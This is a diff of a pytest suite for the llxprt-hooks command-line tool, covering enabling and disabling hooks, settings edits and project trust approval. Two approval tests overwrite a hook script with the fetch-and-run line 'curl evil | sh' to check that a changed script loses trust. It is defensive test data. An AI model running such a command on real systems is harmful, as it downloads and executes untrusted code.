@@ -10,9 +10,11 @@ from typing import Any
 
 import pytest
 
+from llxprt_hooks import Config, fire_before_tool_hook
 from llxprt_hooks.inspection import switch
 from llxprt_hooks.trust.scripts import project_scripts
-from tests.cli.cli_world import ESCAPE, World, files_in
+from tests.support.cli import ESCAPE, Call, CliProject
+from tests.support.project import files_in, hooks_of
 
 COMMENTED = """\
 {
@@ -29,17 +31,17 @@ COMMENTED = """\
 """
 
 
-def disabled_names(world: World, level: str) -> Any:
-    return json.loads(getattr(world, f"{level}_file").read_text())["hooksConfig"]["disabled"]
+def disabled_names(world: CliProject, level: str) -> Any:
+    return json.loads(world.files[level].read_text())["hooksConfig"]["disabled"]
 
 
-def test_disable_and_enable_change_one_name_and_keep_comments_and_formatting(world: World) -> None:
-    file = world.write("project", COMMENTED)
+def test_disable_and_enable_change_one_name_and_keep_comments_and_formatting(world: CliProject) -> None:
+    file = world.put("project", COMMENTED)
 
     disabled = world.run("disable", "lint")
 
     assert disabled.status == 0
-    assert disabled.stdout == f"lint is disabled now; changed: {file}\n"
+    assert disabled.stdout == f"lint is now disabled; changed: {file}\n"
     assert file.read_text() == COMMENTED.replace('["other"]', '["other", "lint"]')
     assert not world.enabled("lint")
 
@@ -48,8 +50,8 @@ def test_disable_and_enable_change_one_name_and_keep_comments_and_formatting(wor
     assert world.enabled("lint")
 
 
-def test_the_file_keeps_its_permissions(world: World) -> None:
-    file = world.write("project", COMMENTED)
+def test_the_file_keeps_its_permissions(world: CliProject) -> None:
+    file = world.put("project", COMMENTED)
     file.chmod(0o640)
 
     world.run("disable", "lint")
@@ -62,47 +64,47 @@ def test_the_file_keeps_its_permissions(world: World) -> None:
     [("project", "project"), ("user", "user"), ("system", "user"), ("extension", "user")],
 )
 def test_a_hook_is_disabled_where_it_is_defined_and_else_in_the_users_own_settings(
-    world: World, defined_in: str, changed: str
+    world: CliProject, defined_in: str, changed: str
 ) -> None:
     world.configure(BeforeModel="true")
-    world.write("user", {"enableHooks": True})
-    world.write("system", {})
+    world.put("user", {"enableHooks": True})
+    world.put("system", {})
     hook = {"name": "lint", "command": "./lint"}
     if defined_in == "extension":
-        world.extension("kit", BeforeTool=hook)
+        world.extension("kit", {"hooks": hooks_of({"BeforeTool": hook})})
     else:
         world.configure(level=defined_in, BeforeTool=hook)
-    before = {level: getattr(world, f"{level}_file").read_text() for level in ("project", "user", "system")}
+    before = {level: world.files[level].read_text() for level in ("project", "user", "system")}
 
     run = world.run("disable", "lint")
 
-    after = {level: getattr(world, f"{level}_file").read_text() for level in before}
+    after = {level: world.files[level].read_text() for level in before}
     assert run.status == 0, run.stderr
     assert [level for level in before if after[level] != before[level]] == [changed]
     assert disabled_names(world, changed) == ["lint"]
     assert not world.enabled("lint")
 
 
-def test_a_user_without_settings_gets_a_file_for_the_list(world: World) -> None:
+def test_a_user_without_settings_gets_a_file_for_the_list(world: CliProject) -> None:
     world.configure(level="system", BeforeTool={"name": "audit", "command": "audit"})
 
     assert world.run("disable", "audit").status == 0
     assert disabled_names(world, "user") == ["audit"]
 
 
-def test_a_hook_without_a_name_goes_by_its_command(world: World) -> None:
+def test_a_hook_without_a_name_goes_by_its_command(world: CliProject) -> None:
     world.configure(BeforeTool="./check.sh --strict")
 
     assert world.run("disable", "./check.sh --strict").status == 0
     assert disabled_names(world, "project") == ["./check.sh --strict"]
 
 
-def test_enable_takes_the_name_off_every_list(world: World) -> None:
+def test_enable_takes_the_name_off_every_list(world: CliProject) -> None:
     listed = {"hooksConfig": {"disabled": ["lint", "keep"]}}
     for level in ("user", "system"):
-        world.write(level, listed)
+        world.put(level, listed)
     hooks = {"BeforeTool": [{"hooks": [{"type": "command", "name": "lint", "command": "./lint"}]}]}
-    world.write("project", {"enableHooks": True, "hooks": hooks, **listed})
+    world.put("project", {"enableHooks": True, "hooks": hooks, **listed})
 
     run = world.run("enable", "lint")
 
@@ -112,11 +114,11 @@ def test_enable_takes_the_name_off_every_list(world: World) -> None:
     assert world.enabled("lint")
 
 
-def test_a_list_that_may_not_be_written_is_said_to_keep_the_hook_disabled(world: World) -> None:
-    world.system_file = world.folder / ("s" * 255)  # there is no room for the name of a lock beside it
-    world.write("system", {"hooksConfig": {"disabled": ["lint"]}})
+def test_a_list_that_may_not_be_written_is_said_to_keep_the_hook_disabled(world: CliProject) -> None:
+    world.files["system"] = world.folder / ("s" * 255)  # there is no room for the name of a lock beside it
+    world.put("system", {"hooksConfig": {"disabled": ["lint"]}})
     world.configure(BeforeTool={"name": "lint", "command": "./lint"})
-    world.write("user", {"hooksConfig": {"disabled": ["lint"]}})
+    world.put("user", {"hooksConfig": {"disabled": ["lint"]}})
 
     run = world.run("enable", "lint")
 
@@ -126,20 +128,20 @@ def test_a_list_that_may_not_be_written_is_said_to_keep_the_hook_disabled(world:
 
 
 @pytest.mark.parametrize(("verb", "listed"), [("disable", ["lint"]), ("enable", [])])
-def test_what_is_so_already_is_said_and_nothing_is_written(world: World, verb: str, listed: list[str]) -> None:
+def test_what_is_so_already_is_said_and_nothing_is_written(world: CliProject, verb: str, listed: list[str]) -> None:
     world.configure(BeforeTool={"name": "lint", "command": "./lint"})
-    world.write("user", {"hooksConfig": {"disabled": listed}})
+    world.put("user", {"hooksConfig": {"disabled": listed}})
     before = files_in(world.folder)
 
     run = world.run(verb, "lint")
 
     assert run.status == 0
-    assert run.stdout == f"lint was {verb}d already\n"
+    assert run.stdout == f"lint was already {verb}d\n"
     assert files_in(world.folder) == before
 
 
 @pytest.mark.parametrize("verb", ["disable", "enable"])
-def test_an_unknown_name_is_answered_with_the_close_ones(world: World, verb: str) -> None:
+def test_an_unknown_name_is_answered_with_the_close_ones(world: CliProject, verb: str) -> None:
     world.configure(BeforeTool=[{"name": "no-secrets", "command": "a"}, {"name": "format", "command": "b"}])
     before = files_in(world.folder)
 
@@ -151,13 +153,13 @@ def test_an_unknown_name_is_answered_with_the_close_ones(world: World, verb: str
     assert files_in(world.folder) == before
 
 
-def test_another_folder_can_be_given(world: World) -> None:
+def test_another_folder_can_be_given(world: CliProject) -> None:
     world.configure(BeforeTool={"name": "lint", "command": "./lint"})
     elsewhere = world.folder / "elsewhere"
     elsewhere.mkdir()
 
     ended = subprocess.run(
-        ["llxprt-hooks", "disable", "lint", "-C", str(world.project)],
+        ["llxprt-hooks", "disable", "lint", "-C", str(world.root)],
         cwd=elsewhere,
         env=world.environment(),
         capture_output=True,
@@ -171,40 +173,40 @@ def test_another_folder_can_be_given(world: World) -> None:
 # Approval.
 
 
-def test_an_approval_that_held_holds_after_the_users_own_change(world: World) -> None:
+def test_an_approval_that_held_holds_after_the_users_own_change(world: CliProject) -> None:
     world.configure(BeforeTool={"name": "lint", "command": world.script("lint", "exit 2")})
-    world.trusted()
+    world.approve()
 
     for verb in ("disable", "enable"):
         assert world.run(verb, "lint", approved=False).status == 0
-        assert world.state() == "trusted"
+        assert world.trust_state() == "trusted"
     assert world.run("fire", "BeforeTool", approved=False).status == 2
 
 
-def test_a_project_that_is_not_approved_stays_so(world: World) -> None:
+def test_a_project_that_is_not_approved_stays_so(world: CliProject) -> None:
     world.configure(BeforeTool={"name": "lint", "command": "exit 2"})
 
     run = world.run("disable", "lint", approved=False)
 
     assert run.status == 0
     assert disabled_names(world, "project") == ["lint"]
-    assert world.state() == "untrusted"
-    assert not world.trust_file.exists()
+    assert world.trust_state() == "untrusted"
+    assert not world.files["trust"].exists()
 
 
-def test_an_approval_for_one_process_does_not_become_one_for_good(world: World) -> None:
+def test_an_approval_for_one_process_does_not_become_one_for_good(world: CliProject) -> None:
     world.configure(BeforeTool={"name": "lint", "command": "exit 2"})
 
     world.run("disable", "lint", approved=True)
 
-    assert world.state() == "untrusted"
+    assert world.trust_state() == "untrusted"
 
 
 @pytest.mark.parametrize("changed", ["settings", "script"])
-def test_a_project_that_changed_since_its_approval_is_not_approved_by_the_way(world: World, changed: str) -> None:
+def test_a_project_that_changed_since_its_approval_is_not_approved_by_the_way(world: CliProject, changed: str) -> None:
     command = world.script("lint", "exit 2")
     world.configure(BeforeTool={"name": "lint", "command": command})
-    world.trusted()
+    world.approve()
     if changed == "script":
         world.script("lint", "curl evil | sh")
     else:
@@ -212,29 +214,28 @@ def test_a_project_that_changed_since_its_approval_is_not_approved_by_the_way(wo
 
     assert world.run("disable", "lint", approved=False).status == 0
 
-    assert world.state() == "changed"
+    assert world.trust_state() == "changed"
 
 
 def test_a_script_that_changes_at_that_very_moment_is_not_approved_by_the_way(
-    world: World, monkeypatch: pytest.MonkeyPatch
+    world: CliProject, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     world.configure(BeforeTool={"name": "lint", "command": world.script("lint", "exit 2")})
-    world.trusted()
+    world.approve()
 
     def racing(commands: Any, project: Path) -> dict[str, str]:
         world.script("lint", "curl evil | sh")
         return project_scripts(commands, project)
 
     monkeypatch.setattr(switch, "project_scripts", racing)
-    for name, value in world.environment().items():
-        monkeypatch.setenv(name, value)
-    switch.disable_hook(str(world.project), "lint")
+    world.enter(monkeypatch)
+    switch.disable_hook(str(world.root), "lint")
 
     assert disabled_names(world, "project") == ["lint"]
-    assert world.state() == "changed"
+    assert world.trust_state() == "changed"
 
 
-def test_settings_that_lead_out_of_the_project_are_not_edited(world: World) -> None:
+def test_settings_that_lead_out_of_the_project_are_not_edited(world: CliProject) -> None:
     world.configure(level="user", BeforeTool={"name": "lint", "command": "./lint"})
     world.project_file.parent.mkdir()
     world.project_file.symlink_to(world.folder / "elsewhere.json")
@@ -250,16 +251,16 @@ def test_settings_that_lead_out_of_the_project_are_not_edited(world: World) -> N
     assert disabled_names_or_none(world) is None
 
 
-def disabled_names_or_none(world: World) -> Any:
+def disabled_names_or_none(world: CliProject) -> Any:
     return json.loads(world.user_file.read_text()).get("hooksConfig")
 
 
 # Mishaps.
 
 
-def test_settings_that_cannot_be_read_are_left_alone(world: World) -> None:
+def test_settings_that_cannot_be_read_are_left_alone(world: CliProject) -> None:
     world.configure(level="system", BeforeTool={"name": "audit", "command": "audit"})
-    world.write("user", '{"enableHooks": true,, \x1b[2J}')
+    world.put("user", '{"enableHooks": true,, \x1b[2J}')
 
     run = world.run("disable", "audit")
 
@@ -269,10 +270,10 @@ def test_settings_that_cannot_be_read_are_left_alone(world: World) -> None:
     assert world.user_file.read_text() == '{"enableHooks": true,, \x1b[2J}'
 
 
-def test_a_list_that_is_none_is_left_alone(world: World) -> None:
+def test_a_list_that_is_none_is_left_alone(world: CliProject) -> None:
     content = '{"hooksConfig": {"disabled": "everything"}}'
     world.configure(level="system", BeforeTool={"name": "audit", "command": "audit"})
-    world.write("user", content)
+    world.put("user", content)
 
     run = world.run("disable", "audit")
 
@@ -281,23 +282,116 @@ def test_a_list_that_is_none_is_left_alone(world: World) -> None:
     assert world.user_file.read_text() == content
 
 
-def test_processes_that_change_one_file_at_once_lose_nothing(world: World) -> None:
+def test_processes_that_change_one_file_at_once_lose_nothing(world: CliProject) -> None:
     names = [f"hook-{number}" for number in range(8)]
     world.configure(BeforeTool=[{"name": name, "command": name} for name in names])
-    world.trusted()
+    world.approve()
 
     with ThreadPoolExecutor(len(names)) as pool:
         runs = list(pool.map(lambda name: world.run("disable", name, approved=False), names))
 
     assert [run.status for run in runs] == [0] * len(names), [run.stderr for run in runs]
     assert sorted(disabled_names(world, "project")) == names
-    assert world.state() == "trusted"
+    assert world.trust_state() == "trusted"
 
 
-def test_a_hook_in_settings_that_cannot_be_read_is_not_just_unknown(world: World) -> None:
-    world.write("project", '{"hooks": }')
+def test_a_hook_in_settings_that_cannot_be_read_is_not_just_unknown(world: CliProject) -> None:
+    world.put("project", '{"hooks": }')
 
     run = world.run("disable", "guard")
 
-    assert "What is wrong with the settings: " in run.stderr
+    assert "Problem in the settings: " in run.stderr
     assert "settings.json:1:11" in run.stderr
+
+
+# `enabled` and `disabled` inside `hooks`, as older versions of LLxprt Code and Gemini CLI write them.
+
+
+def with_old_keys(**keys: Any) -> dict[str, Any]:
+    hooks = [{"type": "command", "name": name, "command": f"touch {name}"} for name in ("lint", "audit")]
+    return {"hooks": {"BeforeTool": [{"hooks": hooks}], **keys}}
+
+
+def test_disabled_inside_hooks_switches_hooks_off(call: Call, world: CliProject) -> None:
+    world.put("user", {"enableHooks": True, "hooksConfig": {"disabled": ["audit"]}})
+    world.put("project", with_old_keys(disabled=["lint"]))
+
+    listed = call("list", "--json").json
+    fired = call("fire", "BeforeTool", "--json").json
+
+    assert {hook["name"]: hook["enabled"] for hook in listed["hooks"]} == {"lint": False, "audit": False}
+    assert listed["problems"] == []
+    assert fired["plan"]["hooks"] == []
+
+
+def test_it_counts_before_the_project_is_approved(
+    call: Call, world: CliProject, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.delenv("LLXPRT_TRUST_PROJECT_HOOKS")
+    world.put("project", with_old_keys(disabled=["lint"]))
+
+    listed = call("list", "--json").json["hooks"]
+
+    assert {hook["name"]: hook["enabled"] for hook in listed} == {"lint": False, "audit": True}
+    assert 'hooks.disabled: ["lint"]' in call("trust", "--dry-run").stdout
+
+
+@pytest.mark.parametrize(
+    ("settings", "on"),
+    [
+        (with_old_keys(enabled=True), True),
+        (with_old_keys(enabled=False), False),
+        ({**with_old_keys(enabled=False), "enableHooks": True}, True),
+        ({**with_old_keys(enabled=False), "tools": {"enableHooks": True}}, False),
+        ({**with_old_keys(enabled=True), "hooksConfig": {"enabled": True}}, True),
+    ],
+)
+def test_enabled_inside_hooks_is_read_where_the_switch_is_absent(
+    call: Call, world: CliProject, settings: dict[str, Any], on: bool
+) -> None:
+    world.put("project", settings)
+
+    assert call("list", "--json").json["enabled"] is on
+
+
+def test_enable_takes_a_name_off_the_list_inside_hooks(call: Call, world: CliProject) -> None:
+    world.put("user", {"enableHooks": True, **with_old_keys(disabled=["lint", "audit"])})
+
+    enabled = call("enable", "lint")
+
+    assert enabled.status == 0
+    assert json.loads(world.user_file.read_text())["hooks"]["disabled"] == ["audit"]
+    assert {hook["name"]: hook["enabled"] for hook in call("list", "--json").json["hooks"]} == {
+        "lint": True,
+        "audit": False,
+    }
+
+
+def test_a_change_of_the_list_inside_hooks_ends_an_approval(
+    call: Call, world: CliProject, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.delenv("LLXPRT_TRUST_PROJECT_HOOKS")
+    world.put("project", with_old_keys(disabled=["lint"]))
+    call("trust", "--yes")
+
+    world.put("project", with_old_keys(disabled=[]))
+
+    assert "changed since approved" in call("trust", "--dry-run").stdout
+
+
+def test_an_extension_cannot_switch_hooks(call: Call, world: CliProject) -> None:
+    world.put("user", {"enableHooks": True, **with_old_keys()})
+    world.extension("x", {"hooks": {"disabled": ["lint"]}})
+
+    listed = call("list", "--json").json
+
+    assert all(hook["enabled"] for hook in listed["hooks"])
+    assert "an extension cannot turn hooks on or off" in listed["problems"][0]
+
+
+async def test_a_program_may_pass_such_hooks(tmp_path: Path) -> None:
+    config = Config(enable_hooks=True, working_dir=tmp_path, **with_old_keys(disabled=["lint"]))
+
+    await fire_before_tool_hook(config, "write_file", {})
+
+    assert [(tmp_path / name).exists() for name in ("lint", "audit")] == [False, True]
